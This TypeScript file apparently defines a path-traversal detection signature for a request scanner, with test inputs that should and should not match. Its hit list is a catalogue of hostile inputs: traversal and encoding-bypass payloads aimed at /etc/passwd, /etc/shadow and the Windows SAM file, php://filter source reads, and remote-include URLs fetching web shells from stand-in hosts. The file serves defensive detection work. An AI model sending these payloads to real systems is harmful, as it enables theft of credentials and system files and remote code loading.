import { findClimb } from '../paths/climbs/climbing.ts';
import { isSettingOfProgram, isSettingOfSystem } from '../paths/files/settings-of-program.ts';
import { isFileName, type PathPlace, pathPlaceOf } from '../paths/places/path-place.ts';
import { findProbedAddress } from '../paths/probed-address.ts';
import { findDirectPath } from '../paths/values/direct-path.ts';
import { innerParameter } from '../paths/values/inner-parameter.ts';
import { hasAll, hasAny, marksOf, type Reading } from '../readings/reading.ts';
import { ADDRESS_KINDS, isInRecorded, isInWritten } from '../request/leaf/leaf.ts';
import type { Finding, Signature } from '../signature.ts';

const PATH_MARKS = marksOf('./\\%');
/** The stream of a file. */
const STREAM_MARKS = marksOf(':$');
/** An address inside of XML is rather read by the XML processor: leave the first place to that. */
const MOST_IN_XML = 0.85;

/** Paths that climb out of their place, files of the system by name, and wrappers that read them. */
export const pathTraversal: Signature = {
  type: 'path_traversal',
  mitre: 'T1083',
  impact: [20, 30],
  readsAddresses: true,
  pieceDiscount: 0.12,
  examples: {
    hits: [
      '!/etc!/passwd',
      { query: 'page=ftp://example.org/a.txt' },
      'msl:/tmp/x.png',
      '../private/data.csv',
      { query: 'x=ftp://ann:x@203.0.113.9/s.php' },
      { query: 'x=//203.0.113.9/evil.txt' },
      '../../../../etc/passwd',
      '..\\..\\..\\windows\\win.ini',
      '..%252f..%252f..%252fetc%252fpasswd',
      '....//....//....//etc/shadow',
      '/var/www/images/../../../etc/passwd',
      '..;/..;/manager/html',
      '%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini',
      '/etc/passwd',
      '/proc/self/environ',
      'C:\\Windows\\System32\\config\\SAM',
      'php://filter/convert.base64-encode/resource=index.php',
      'file:///etc/shadow',
      '\\\\10.0.0.7\\c$\\boot.ini',
      'WEB-INF/web.xml',
      'web.config::$DATA',
      '/var/www/html/config.php',
      "include('/etc/passwd')",
      { query: 'item=http://203.0.113.9/shell.txt?' },
      { query: 'template=https://attacker.example/a.php' },
      { path: '/.git/config' },
      { path: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh' },
      { path: '/assets/..%5c..%5c..%5cboot.ini' },
      { path: '/images/..%2finfo.html' },
      { path: '/assets/../package.json' },
      { path: '/file=C:%5CWindows%5Cwin.ini' },
      'http:///?/../../../../srv/',
      `/${'a'.repeat(80)}/../{file}`,
      `/${'a'.repeat(300)}....{file}`,
      '/0x2e0x2ex2e{file}',
      { query: 'file=.ksh_history' },
      { query: 'jsp=/app/rest/users;.jsp' },
      { path: '/control/login;/export' },
      { path: '/%2577ebui' },
      { query: 'dir=http%5C..%5Cadmin%5Clogin.php' },
      { contentType: 'application/json', body: '{"class":"i/../lib/password.properties"}' },
      {
        contentType: 'multipart/form-data; boundary=x',
        body: '--x\r\nContent-Disposition: form-data; name="f"; filename="a.ph$p"\r\n\r\nx\r\n--x--\r\n',
      },
      { query: 'x=/srv/www/users/master.htpasswd' },
      { query: 'p=eyJwYXRoIjogImZpbGU6Ly8vZXRjL3Bhc3N3ZCJ9' },
      { query: 'page=http://203.0.113.9/c99.txt' },
      { path: '/get/2e2e2f2e2e2f6574632f706173737764' },
      { headers: { 'Content-Disposition': 'attachment; filename="../"' } },
      { path: '/shop/index.%70hp' },
      { path: '/shop/index.asp%2e' },
      { path: '/shop/index.jsp%5c' },
      { path: '/BOOT-INF/classes/a.class' },
      { path: '/actuator/heapdump' },
      '/boot/grub/menu.lst',
      { contentType: 'application/json', body: '{"path":"../../index.php"}' },
      { query: 'file=..%09..%09..%09etc%09passwd' },
      { path: '/wiki/index.php/passwd' },
      { query: 'file=report%00' },
      { query: 'file=.gitlab-ci.yml' },
      { query: 'download=store.sqlite3' },
      { contentType: 'application/json', body: '{"path":"\\\\\\\\files.example.org\\\\share\\\\a.php"}' },
    ],
    misses: [
      '<title>Find a statement</title>\n<!-- path=../ -->\n</head>\n<body>\n',
      { path: '/wiki/index.php/Password' },
      { contentType: 'application/json', body: '{"references":[{"path":"../../packages/core"}]}' },
      { contentType: 'application/json', body: '{"path":"../src/index.ts"}' },
      { path: '/shop/index.php:80' },
      { path: '/proxy/http%3A%2F%2Fexample.com%2F%61' },
      { path: '/caf%C3%A9/list%20of%20a-z' },
      { query: 'path=Dockerfile&ref=main' },
      { query: 'file=report.pdf' },
      { query: 'link=ftp://example.org/a.txt' },
      '!/x!/y',
      { contentType: 'application/x-www-form-urlencoded', body: 'comment=..%2Fprivate%2Fdata.csv' },
      { query: 'x=ftp://ftp.example.org/pub/readme.txt' },
      'the report is in ../reports/2024.pdf, see there',
      'wait... / what?',
      'https://example.com/a/b.html?x=1',
      '1/2 .. 3/4',
      'C:\\fakepath\\holiday.jpg',
      'my .env file is broken, where is /etc/nginx documented?',
      '.htaccess',
      'data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==',
      'and/or',
      '12.03.2024 .. 14.03.2024',
      'https://example.com/index.php?',
      'https://example.com/photo.jpg?w=200',
      { query: 'url=https://example.com/page.php' },
      { path: '/images/../style.css' },
      { path: '/list;jsessionid=1A2B' },
      { path: '/sale%2520now/100%25bar' },
      {
        contentType: 'multipart/form-data; boundary=x',
        body: '--x\r\nContent-Disposition: form-data; name="f"; filename="photo.ph.p"\r\n\r\nx\r\n--x--\r\n',
      },
      { path: '/blog/..%5Cimages%5Clogo.gif' },
      { path: '/proxy/https%3A%2F%2Fexample.com%2Fcss%2F..%2Fimg%2Fa.png' },
      { path: '/year=2024/month=01/part-0.parquet' },
      { path: '/commit/4a6f2d1c5b7e3a296d4f5a6b7c2d3e4f5a6b7c2d' },
      { path: '/blog/etc/passwords' },
      { path: '/etc/designs/site/main.css' },
      { contentType: 'application/json', body: '{"import":"../lib/x","main":"../../node_modules/a/index.js"}' },
      { contentType: 'application/json', body: '{"added":[".env.example",".htaccess","src/../README.md"]}' },
      { path: '/api/v4/projects/1/repository/files/nginx.conf' },
      {
        contentType: 'multipart/form-data; boundary=x',
        body: '--x\r\nContent-Disposition: form-data; name="f"; filename=".bashrc"\r\n\r\nalias ll=ls\r\n--x--\r\n',
      },
    ],
  },
  couldMatch: () => true,
  match(reading: Reading): Finding | null {
    if (!hasAny(reading, PATH_MARKS) && !isBare(reading)) return null;
    // Documents name pages by the dozen: only steps in them lead elsewhere.
    if (reading.isPlainAddress && reading.leaf.kind === 'json') return findClimb(reading, 'data');
    const place = pathPlaceOf(reading);
    if (place === null) return null;
    const finding = pathIn(reading, place) ?? (place === 'data' ? pathInParameter(reading) : null);
    if (finding === null || reading.leaf.kind !== 'xml') return finding;
    return { ...finding, confidence: Math.min(finding.confidence, MOST_IN_XML) };
  },
};

function pathIn(reading: Reading, place: PathPlace): Finding | null {
  const climb = findClimb(reading, place);
  const isSure = climb !== null && climb.confidence > 0.9;
  const direct = isSure ? null : place === 'address' ? findProbedAddress(reading) : findDirectPath(reading, place);
  if (reading.leaf.isPiece === true && direct !== null && isTalkedAbout(direct, reading)) return climb;
  return direct !== null && direct.confidence > (climb?.confidence ?? 0) ? direct : climb;
}

function pathInParameter(reading: Reading): Finding | null {
  const parameter = innerParameter(reading);
  const finding = parameter === null ? null : pathIn(parameter.reading, 'value');
  if (parameter === null || finding === null || finding.confidence < parameter.least) return null;
  return { ...finding, at: parameter.at + finding.at };
}

/**
 * Files and folders that instructions tell people to look into, and wrappers that they explain: how a system is set up, not
 * who may do what there.
 */
const TALKED_ABOUT =
  /\/etc\/(?:hosts|resolv|nginx|fstab|environment|profile|ssh|os-release|localtime|nsswitch\.conf|sysctl\.|machine-id|debian_version|bash\.bashrc|termcap|(?:shells|mtab|services|networks|protocols|exports|aliases|inittab|rc\.conf|rc\.local|inetd\.conf|pam\.conf|ftpusers|[a-z]{2,8}-release)(?![\w-])|network\/|security\/(?:limits|access)|manpath\.config|(?:default|init\.d|skel|x11|xdg|sgml|xml|vim|dpkg|apt|bash_completion\.d|pam\.d|sysctl\.d|systemd|modprobe\.d|udev)(?:\/|\b))|(?<!\/root\/)\.ssh\b|system32[\\/]?$|\/var\/log\/\w+\/?(?:[,.\s]|$)|\.env\b|\.htaccess|\/proc\/(?:cpuinfo|meminfo|partitions|filesystems|swaps|sys)|\/dev\//;
/** Nobody but a shell knows whose home it is. */
const OF_HOME = /^["'`(]{0,2}(?:~|\$home|\$\{home\})\/\.?\w/;
const FILE = /^path of a (?:secret|system) file$/;
/** Only whoever reads sources or files of the system that way writes it. */
const WRAPPED = /^php:\/\/filter\/.{1,80}resource=|^file:\/{0,3}(?:\w:|etc|proc|boot|windows|\/)/;

/** What only programs read, and the drive of the machine itself as a share of the network: nobody is told to open them. */
const NEVER_READ =
  /^["'`(]{0,2}(?:\/var\/(?:log|run)\/(?:lastlog|[uwb]tmp)|\\\\(?:::1|\[::1\]|127\.\d[\d.]{0,10}|localhost)(?:@[\w@]{1,12})?\\[a-z]\$)/;

/** A path among words that people write about, or that is no file an attacker reads. */
function isTalkedAbout({ pattern, confidence }: Finding, { lower, leaf }: Reading): boolean {
  if (lower.includes('\0')) return false;
  if (NEVER_READ.test(lower)) return isInWritten(leaf) || isInRecorded(leaf);
  // Nothing fetches an address with words around it; markup that does is looked at elsewhere.
  if (WRAPPED.test(lower)) return confidence < SURE || (lower.startsWith('file:') && isInWritten(leaf));
  if (
    !FILE.test(pattern) ||
    isInWritten(leaf) ||
    isInRecorded(leaf) ||
    TALKED_ABOUT.test(firstPath(lower)) ||
    OF_HOME.test(lower)
  )
    return true;
  return pattern === 'path of a system file' && (!ADDRESS_KINDS.has(leaf.kind) || isToldSetting(lower));
}

/** A piece up to what stands behind the path in it, which excuses nothing. */
function firstPath(lower: string): string {
  return /^.{0,3}?[/\\.][^\s,;?#|&]{0,4096}/.exec(lower)?.[0] ?? lower;
}

/** The path that a piece begins with, without the marks around it and the hyphen of a printed manual. */
const TOLD_PATH = /^(?!.{0,3}\/etc\/(?:cron|logrotate))["'`(]{0,2}(\/[\w./-]{1,200})["'`),.:;\u2010]{0,3}(?:\s|$)/;

/**
 * `/etc/acme/acme.conf`, `/etc/login.defs` among words: whoever reads the files of a system asks for none that most systems
 * have not, and for those that tell who may do what.
 */
function isToldSetting(lower: string): boolean {
  const path = TOLD_PATH.exec(lower)?.[1];
  if (path === undefined || path.includes('..')) return false;
  const segments = path.split('/').filter((each) => each !== '');
  return isSettingOfProgram(segments) || isSettingOfSystem(segments);
}

const LONGEST_NAME = 16;
const SURE = 0.85;

/** Dots as numbers or in other letters, a stream, or a short name where the name of a file belongs. */
function isBare(reading: Reading): boolean {
  const { text, leaf, unusual } = reading;
  if (unusual || hasAll(reading, STREAM_MARKS) || text.includes('0x')) return true;
  if (text.length > LONGEST_NAME || leaf.part !== 'value') return false;
  return (leaf.kind === 'query' || leaf.kind === 'form') && isFileName(leaf);
}
